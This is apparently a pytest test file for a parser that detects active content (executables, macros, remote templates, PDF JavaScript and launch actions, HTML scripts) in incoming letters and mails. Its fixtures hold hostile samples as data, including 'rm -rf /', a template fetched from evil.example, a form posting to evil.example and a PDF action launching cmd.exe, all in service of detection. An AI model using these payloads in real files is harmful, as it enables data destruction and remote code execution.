"""What could act in a file is named by its bytes; honest files hold nothing."""

from email.message import EmailMessage

import pikepdf
import pytest

from parsers.active_content import active_content
from parsers.options import ReadOptions
from parsers.read import read
from tests.rigs import active_files
from tests.rigs.active_files import a_docx, a_pdf, a_program, a_zip

EMBEDDED = {"word/embeddings/oleObject1.bin": b"x"}
MACROS = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
TEMPLATE = {
    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
}
LINK = {
    "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/hyperlink" Target="https://harbor.example" TargetMode="External"/>'
    b"</Relationships>"
}


@pytest.mark.parametrize(
    ("data", "name", "what"),
    [
        (a_program(), "letter.pdf", "a Windows program"),
        (b"\x7fELF\2\1\1", "scan.tif", "a Linux program"),
        (b"#!/bin/sh\nrm -rf /\n", "notes.txt", "a script"),
        (a_docx(extra=MACROS), "letter.docx", "macros (VBA)"),
        (a_docx(extra=EMBEDDED), "letter.docx", "objects embedded in an Office document"),
        (a_docx(extra=TEMPLATE), "letter.docx", "a template or an object that is fetched from elsewhere"),
        (active_files.an_old_word_file(), "letter.doc", "macros (VBA)"),
        (a_pdf(active_files.with_javascript), "form.pdf", "JavaScript in a PDF form"),
        (a_pdf(active_files.with_launch), "letter.pdf", "a PDF action that starts a program"),
        (a_pdf(active_files.with_embedded_file), "letter.pdf", "files embedded in a PDF, which were not read"),
        (b"<html><body onload=alert(1)>hello</body>", "portal.html", "scripts in a page of HTML"),
        (b"<!doctype html><script src=x></script>", "x.txt", "scripts in a page of HTML"),
        (b'<html><form action="http://evil.example">', "portal.html", "a page of HTML that sends what is typed"),
        (b"<svg xmlns='x'><script>1</script></svg>", "logo.svg", "scripts in a page of HTML"),
        (b'var x = new ActiveXObject("WScript.Shell");', "letter.txt", "a script"),
        (b"{\\rtf1{\\object\\objdata 0105}}", "letter.doc", "objects embedded in an RTF document"),
        (b"plain words", "letter.pdf.js", "a name that makes a computer run it"),
    ],
)  # fmt: skip
def test_what_could_act_is_named(data: bytes, name: str, what: str) -> None:
    assert what in active_content(data, name)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (a_pdf(), "letter.pdf"),
        (a_docx(), "letter.docx"),
        (a_docx(extra=LINK), "letter.docx"),
        (b"Her medication = on Monday = 5 mg. MZ was seen.", "letter.txt"),
        (b"MZ Smith was seen today and is well; her next visit is on 3/12/2026 at 2:30 pm in our office.", "note.txt"),
        (b"<html><body><p>We booked her for Monday.</p></body></html>", "note.html"),
        (b"", "empty"),
    ],
)
def test_honest_files_hold_nothing(data: bytes, name: str) -> None:
    assert active_content(data, name) == ()


def test_an_action_hidden_in_a_name_tree_with_escaped_names_is_found() -> None:
    def hide(document: pikepdf.Pdf) -> None:
        inner = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=document.make_stream(b"app.alert(1)"))
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), inner]))
        document.Root.Names = pikepdf.Dictionary(JavaScript=document.make_indirect(tree))

    hidden = a_pdf(hide)
    assert b"/JavaScript" not in hidden, "it stands in a squeezed object stream"
    assert "JavaScript in a PDF form" in active_content(hidden)


def test_a_locked_pdf_is_judged_from_outside() -> None:
    locked = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj trailer<</Encrypt 2 0 R>>"
    assert "a PDF action that starts a program" in active_content(locked)


def test_a_letter_with_macros_is_read_and_waits_for_a_person() -> None:
    reading = read(a_docx(extra=MACROS), "letter.docx", ReadOptions())
    [document] = reading.documents
    assert "atypical chest pain" in document.text
    assert any("macros (VBA)" in doubt for doubt in document.doubts)
    assert reading.active == ("macros (VBA)",)


def test_a_form_with_a_little_javascript_is_warned_of_and_not_held() -> None:
    reading = read(a_pdf(active_files.with_javascript), "form.pdf", ReadOptions())
    assert reading.active == ("JavaScript in a PDF form",)
    assert not any("JavaScript" in doubt for document in reading.documents for doubt in document.doubts)


def test_a_program_called_pdf_is_never_read_and_says_what_it_is() -> None:
    reading = read(a_program(), "report.pdf", ReadOptions())
    assert reading.documents == ()
    assert "a program" in reading.error
    assert reading.active == ("a Windows program",)


def test_a_mail_tells_which_of_its_parts_could_act() -> None:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "desk@harbor.example", "Your document"
    mail.set_content("We have received your referral of Jane Doe, born 3/4/1961.")
    mail.add_alternative("<p>We have received it.</p><script>1</script>", subtype="html")
    mail.add_attachment(a_program(), maintype="application", subtype="pdf", filename="report.pdf")
    reading = read(mail.as_bytes(), "mail", ReadOptions())
    assert set(reading.active) == {"scripts in a page of HTML", "report.pdf: a Windows program"}
    assert any("a program" in doubt for doubt in (reading.error,))


def test_an_archive_is_no_active_content_by_itself() -> None:
    assert active_content(a_zip({"letter.txt": b"hello"})) == ()
